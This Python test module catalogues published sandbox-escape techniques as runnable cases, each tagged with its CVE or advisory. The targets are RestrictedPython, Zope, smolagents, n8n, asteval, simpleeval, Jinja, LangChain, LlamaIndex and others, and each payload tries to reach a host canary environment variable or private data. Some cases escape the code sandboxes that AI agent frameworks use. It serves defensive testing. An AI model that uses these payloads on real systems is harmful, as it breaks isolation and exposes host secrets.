"""Every published way out of RestrictedPython, of AST interpreters and of expression evaluators.

Each case is the published technique in a form that works on this host; the number is the advisory's.
"""

from ..case import Attack, Twin

ENV = "['__import__']('os').environ['HOST_CANARY']"

ATTACKS = [
    Attack(
        f"{number} {product}", how, code, modules=modules, since=since,
        crashes=number == "CVE-2025-22153",
    )
    for number, product, how, code, modules, since in [
        # ------------------------------------------------------------ RestrictedPython and Zope
        ("CVE-2023-37271", "RestrictedPython", "generator frames lead to the caller's globals", """
def f():
    yield g.gi_frame.f_back.f_back.f_globals
g = f()
for ns in g:
    print((x for x in [1]).gi_frame.f_builtins""" + ENV + ")", (), (3, 11)),
        ("CVE-2023-37271b", "RestrictedPython", "the same through gi_code and cr_frame", """
async def f(): ...
c = f()
print(c.cr_frame.f_builtins""" + ENV + ")\nc.close()", (), (3, 11)),
        ("CVE-2023-41039", "RestrictedPython", "str.format and format_map read attributes", """
print('{0.__globals__[os].environ[HOST_CANARY]}'.format(greet))""", (), (3, 11)),
        ("CVE-2023-41039b", "RestrictedPython", "format_map, unbound, through a safe alias", """
f = str.format_map
print(f('{g.__globals__[os].environ}', {'g': greet}))""", (), (3, 11)),
        ("CVE-2023-41050", "AccessControl", "the formatter's unbound methods on str subclasses", """
class S(str): ...
print(S.format('{0._private}', host))""", (), (3, 11)),
        ("CVE-2024-47532", "RestrictedPython", "AttributeError.obj and the string module's formatter", """
import string
try:
    string.Formatter().get_field('a.nothing', [], {'a': host})
except AttributeError as e:
    print(e.obj._private)""", ("string",), (3, 11)),
        ("CVE-2024-47532b", "RestrictedPython", "AttributeError.obj of a failing read", """
try:
    greet.nothing
except AttributeError as e:
    print(e.obj.__globals__['os'].environ)""", (), (3, 11)),
        ("CVE-2025-22153", "RestrictedPython", "except* calls split on what is no exception group", """
class G(ExceptionGroup):
    def split(self, *a):
        return host, secret
try:
    try:
        raise G('g', [ValueError()])
    except* ValueError as e:
        print(e._private)
except BaseException:
    print(host._private)""", (), (3, 11)),
        ("CVE-2026-76825", "RestrictedPython", "string.Formatter reached through getattr", """
import string
F = getattr(string, 'Formatter')
print(F().get_field('0.flag', (secret,), {})[0])""", ("string",), (3, 11)),
        ("positional-only shadowing", "RestrictedPython 8.3", "a positional-only parameter binds a guard's name", """
def f(_getattr_, /):
    return secret.flag
print(f(lambda o, n: 1))""", (), (3, 11)),
        ("C iteration", "RestrictedPython 9.0", "sorted, tuple, zip and bytes iterate without the guard", """
print(sorted(secret), tuple(secret), list(zip(secret)))""", (), (3, 11)),
        ("CVE-2021-32633", "Zope", "a safe module's private names lead to os", """
import random
print(random._os.environ['HOST_CANARY'])""", ("random",), (3, 11)),
        ("CVE-2021-32674", "Zope", "traversal by names with underscores in path expressions", """
from functools import reduce
print(reduce(getattr, '__globals__'.split('/'), greet)['os'].environ)""", (), (3, 11)),
        ("CVE-2021-32807", "AccessControl", "string.Formatter in untrusted code", """
import string
print(string.Formatter().format('{0._private}', host))""", ("string",), (3, 11)),
        ("CVE-2021-32811", "Zope", "script code through an allowed module's function globals", """
import hostlib
print(hostlib.area.__globals__['environ']['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2012-5487", "Plone", "module allowances leak through imports of submodules", """
from hostlib import json
print(json.codecs.open(path).read())""", (), (3, 11)),
        ("CVE-2017-5524", "Plone", "private data through str.format", """
print('{0.secrets}'.format(host))""", (), (3, 11)),
        # ------------------------------------------------------------ AST interpreters
        ("CVE-2025-5120", "smolagents", "an allowed module's submodules lead to a dangerous one", """
import random
print(getattr(random, '_os').environ['HOST_CANARY'])""", ("random",), (3, 11)),
        ("CVE-2025-9959", "smolagents", "dunder attributes are checked in reads only, not in calls", """
cls = ().__class__.__base__
for c in getattr(cls, '__subclasses__')():
    if c.__name__ == '_wrap_close':
        print(c.__init__.__globals__['environ']['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2025-9959b", "smolagents", "dunder methods fetched from a class's namespace and called", """
get = object.__getattribute__
print(get(secret, 'flag'))""", (), (3, 11)),
        ("CVE-2026-4963", "smolagents", "augmented assignment reads the attribute unguarded", """
class Spy:
    def __radd__(self, other):
        print(other)
        return other
host.password += Spy()""", (), (3, 11)),
        ("CVE-2026-4963b", "smolagents", "an attribute of machinery is written by plain assignment", """
def f(): ...
f.__code__ = (lambda: __import__('os').environ['HOST_CANARY']).__code__
print(f())""", (), (3, 11)),
        ("CVE-2026-4963c", "smolagents", "with and for targets write unguarded", """
def f(): ...
for f.__code__ in [(lambda: __import__('os').environ['HOST_CANARY']).__code__]:
    print(f())""", (), (3, 11)),
        ("object lifecycle", "smolagents", "special methods run on the host's time", """
class C:
    def __del__(self):
        print(secret.flag)
C()""", (), (3, 11)),
        ("ctypes", "smolagents", "modules missing from a list of dangerous ones", """
import ctypes
print(ctypes.cast(id(secret), ctypes.py_object).value.flag)""", (), (3, 11)),
        ("format paths", "smolagents", "dunder names inside field paths of format strings", """
print('{0.__class__.tell}'.format(secret) and '{0.__dict__}'.format(secret))""", (), (3, 11)),
        ("CVE-2026-0863", "n8n", "string formatting and an exception's obj lead to real objects", """
try:
    '{0.__init__.__globals__[os].nothing}'.format(Host)
except AttributeError as e:
    print(e.obj.environ['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2025-68668", "n8n", "an inner interpreter's bridge modules are importable", """
import _posixsubprocess
import os
print(os.environ['HOST_CANARY'])""", (), (3, 11)),
        ("str subclass with lying methods", "AST checkers", "a checked name is a str subclass", """
class Name(str):
    def startswith(self, *a):
        return False
print(getattr(host, Name('_private')))""", (), (3, 11)),
        ("traceback walk", "AST checkers", "the traceback's frames are walked upwards", """
try:
    1 / 0
except Exception as e:
    f = e.__traceback__.tb_frame
    print(f.f_builtins""" + ENV + ")", (), (3, 11)),
        # ------------------------------------------------------------ expression evaluators
        ("CVE-2025-24359", "asteval", "a format spec raises an error whose obj is the machinery", """
try:
    f"{host:{'{0.nothing}'.format(host)}}"
except AttributeError as e:
    print(e.obj._private)""", (), (3, 11)),
        ("GHSA-vp47-9734-prjw", "asteval", "attributes of an own function are its parsed body", """
def f():
    return 1
f.__code__ = f.__code__.replace(co_consts=(None, 'x'))
loot = f.__code__""", (), (3, 11)),
        ("issue 86", "asteval", "the reduction of a bound method names getattr and its object", """
red = host.greet.__reduce__()
print(red[0](red[1][0], 'password'))""", (), (3, 11)),
        ("CVE-2026-32640", "simpleeval", "modules and functions reached through attributes of allowed objects", """
import hostlib
print([hostlib][0].os.environ['HOST_CANARY'])""", (), (3, 11)),
        ("issue 138", "simpleeval", "a generator method's frame", """
print(stream().gi_frame.f_builtins""" + ENV + ")", (), (3, 11)),
        ("issue 15", "simpleeval", "globals of a method of an allowed object", """
print(host.greet.__func__.__globals__['os'].environ['HOST_CANARY'])""", (), (3, 11)),
        ("operator module", "simpleeval", "operator's functions get, call and set by name", """
import operator
print(operator.methodcaller('reveal')(host), operator.attrgetter('password')(host))""", (), (3, 11)),
        ("CVE-2023-33733", "ReportLab", "type() with three arguments makes a str that fools the name check", """
Word = type('Word', (str,), {'mutated': 0, 'startswith': lambda self, x: False,
    '__eq__': lambda self, x: self.mutate() and self.mutated < 0 and str(self) == x,
    'mutate': lambda self: {setattr(self, 'mutated', self.mutated - 1)},
    '__hash__': lambda self: hash(str(self))})
g = Word('__globals__')
print(getattr(greet, g)['os'].environ['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2019-17626", "ReportLab", "a value is evaluated as an expression", """
print(eval("__import__('os').environ['HOST_CANARY']"))""", (), (3, 11)),
        ("CVE-2016-10745", "Jinja", "str.format on strings in a sandbox", """
print('{0.__globals__[os].environ}'.format(greet))""", (), (3, 11)),
        ("CVE-2019-10906", "Jinja", "str.format_map in a sandbox", """
print('{a.__globals__[os].environ}'.format_map({'a': greet}))""", (), (3, 11)),
        ("CVE-2024-56326", "Jinja", "an indirect reference to a string's format", """
calls = {'run': '{0._private}'.format}
print(calls['run'](host))""", (), (3, 11)),
        ("CVE-2025-27516", "Jinja", "an attribute filter hands out format", """
attr = lambda o, n: getattr(o, n)
print(attr('{0._private}', 'format')(host))""", (), (3, 11)),
        ("CVE-2024-3271", "LlamaIndex", "underscore checks in source, names built at run time", """
u = chr(95) * 2
c = getattr((), u + 'class' + u)
print(getattr(c, u + 'base' + u).__subclasses__() and getattr(greet, u + 'globals' + u)['os'].environ)""", (), (3, 11)),
        ("CVE-2024-3098", "LlamaIndex", "exec of generated code with a filtered list of names", """
print([c for c in ().__class__.__mro__[1].__subclasses__() if c.__name__ == '_wrap_close']
      [0].__init__.__globals__['environ']['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2023-39662", "LlamaIndex", "exec inside an evaluated expression", """
exec("import os\\nprint(os.environ['HOST_CANARY'])")""", (), (3, 11)),
        ("CVE-2023-29374", "LangChain", "a calculation that imports", """
print(__import__('os').environ['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2023-36258", "LangChain", "generated code that imports", """
import os
def solution():
    return os.environ['HOST_CANARY']
print(solution())""", (), (3, 11)),
        ("CVE-2023-44467", "LangChain", "__import__ as a name was not on the list", """
i = __builtins__['__import__'] if isinstance(__builtins__, dict) else __import__
print(i('os').environ['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2024-27444", "LangChain", "subclasses, globals and the like were not on the list", """
print((lambda: 0).__globals__['__builtins__']""" + ENV + ")", (), (3, 11)),
        ("CVE-2023-39631", "numexpr", "an expression with underscores evaluated", """
print(eval("(lambda x: x.__globals__)(greet)['os'].environ"))""", (), (3, 11)),
        ("CVE-2024-12366", "PandasAI", "helper functions of allowed libraries run code", """
import timeit
timeit.timeit("print(__import__('os').environ['HOST_CANARY'])", number=1)""", (), (3, 11)),
        ("CVE-2024-28397", "Js2Py", "a method of a bridged object leads to the host's classes", """
for c in host.greet.__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        print(c.__init__.__globals__['environ']['HOST_CANARY'])""", (), (3, 11)),
        ("CVE-2017-10803", "Odoo", "a pickled value is loaded by privileged code", """
import pickle
print(pickle.loads(b"cos\\ngetenv\\n(VHOST_CANARY\\ntR."))""", (), (3, 11)),
    ]
]  # fmt: skip

TWINS = [
    Twin("the ordinary use of the same names", """
print('{0.name}'.format(host), getattr(host, 'name'), sorted([2, 1]), list(zip('a', [1])))
try:
    host.nothing
except AttributeError as e:
    print('no attribute', e.name)
g = (x for x in [1])
print(next(g), '{:>3}'.format(1), max([1, 2], key=lambda x: -x))
"""),
]  # fmt: skip
